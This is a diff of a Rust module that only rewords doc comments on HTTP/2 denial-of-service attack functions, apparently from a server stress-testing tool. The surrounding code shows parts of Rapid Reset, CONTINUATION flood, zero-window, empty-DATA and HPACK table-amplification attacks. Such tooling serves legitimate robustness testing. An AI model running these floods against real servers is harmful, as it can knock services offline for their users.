@@ -1,4 +1,4 @@
-//! Attacks by frames of HTTP/2.
+//! Attacks with HTTP/2 frames.
 
 use std::io;
 use std::net::TcpStream;
@@ -8,8 +8,8 @@ use crate::support::frames::{ACK, END_HEADERS, END_STREAM, Frames, kind};
 
 const WHOLE: u8 = END_HEADERS | END_STREAM;
 
-/// Opens connection after connection, and has `send` send frames on each, round by round, until the server has enough.
-/// It gets the round's stream.
+/// Opens one connection after another, and calls `send` on each with a new stream in each round, until the server
+/// closes the connection or stops reading.
 fn flood(
     target: &Target,
     send: impl Fn(&mut Frames<TcpStream>, u32) -> io::Result<()>,
@@ -34,7 +34,7 @@ pub(super) fn rapid_reset(target: &Target) -> Vec<TcpStream> {
     })
 }
 
-/// A window that grows by nothing is an error of its stream (RFC 9113 §6.9), which the server has to reset.
+/// A WINDOW_UPDATE of 0 is a stream error (RFC 9113 §6.9), so the server has to reset the stream.
 pub(super) fn made_resets(target: &Target) -> Vec<TcpStream> {
     flood(target, |frames, stream| {
         let block = frames.get_block("/reviews.json");
@@ -44,7 +44,7 @@ pub(super) fn made_resets(target: &Target) -> Vec<TcpStream> {
 }
 
 pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
-    // A literal field that no table keeps, again and again.
+    // A literal field without indexing, repeatedly.
     let filler = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x1f][..], &[b'y'; 4_096]].concat();
     flood(target, |frames, stream| match stream {
         1 => {
@@ -55,7 +55,7 @@ pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
     })
 }
 
-/// A crowd that asks for much and never opens a window.
+/// A crowd that requests large documents and never opens a flow-control window.
 pub(super) fn shut_windows(target: &Target) -> Vec<TcpStream> {
     let held = target.crowd(|_, connection| {
         let initial_window_size = (4, 0);
@@ -94,7 +94,7 @@ pub(super) fn empty_data(target: &Target) -> Vec<TcpStream> {
     })
 }
 
-/// One entry of 4,000 bytes in the table, and then a thousand indices of it, a byte each (RFC 7541 §6.1).
+/// Adds one entry of 4,000 bytes to the dynamic table, then refers to it 1,000 times, a byte each (RFC 7541 §6.1).
 pub(super) fn unpacking(target: &Target) -> Vec<TcpStream> {
     flood(target, |frames, stream| {
         let mut block = frames.get_block("/healthz");
